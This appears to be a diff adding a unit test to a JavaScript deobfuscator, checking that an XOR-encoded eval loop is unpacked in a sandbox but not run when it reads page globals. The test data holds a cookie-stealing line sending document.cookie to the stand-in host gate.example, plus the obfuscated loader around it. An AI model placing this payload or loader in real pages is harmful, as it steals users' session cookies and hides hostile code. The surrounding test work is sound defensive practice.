@@ -269,6 +269,24 @@ function _0x1c(i) { return ["split", "reverse", "x"][i + 1]; }`;
     assert.match(result.code, /SOCK = "cba"\[_0x1c\(-1\)\]/);
   });
 
+  test('a code string built by a top-level XOR loop is computed and unpacked; one that reads the page is not run', () => {
+    const payload = 'navigator.sendBeacon("https://gate.example/c", document.cookie);';
+    const key = [7, 19, 5];
+    const data = [...payload].map((char, i) => char.charCodeAt(0) ^ (key[i % key.length] as number));
+    const loop = (extra: string): string => `var k=[${key.join(',')}],d=[${data.join(',')}],s="";
+for(var i=0;i<d.length;i++){s+=String.fromCharCode(d[i]^k[i%k.length])${extra};}
+eval(s);`;
+    const decoded = deobfuscate(loop(''), { sandbox });
+    assert.match(decoded.code, /navigator\.sendBeacon\("https:\/\/gate\.example\/c", document\.cookie\)/);
+    assert.ok(decoded.layers >= 1);
+    // A builder that touches the page (or anything not declared among its statements) is never run.
+    for (const extra of ['+document.title.slice(0,0)', ';window.seen=1']) {
+      const left = deobfuscate(loop(extra), { sandbox });
+      assert.doesNotMatch(left.code, /gate\.example/, extra);
+      assert.match(left.code, /eval\(s\)/, extra);
+    }
+  });
+
   test('a broken script is reported, not thrown', () => {
     const result = deobfuscate('function (', { sandbox });
     assert.equal(result.status, 'parse_error');
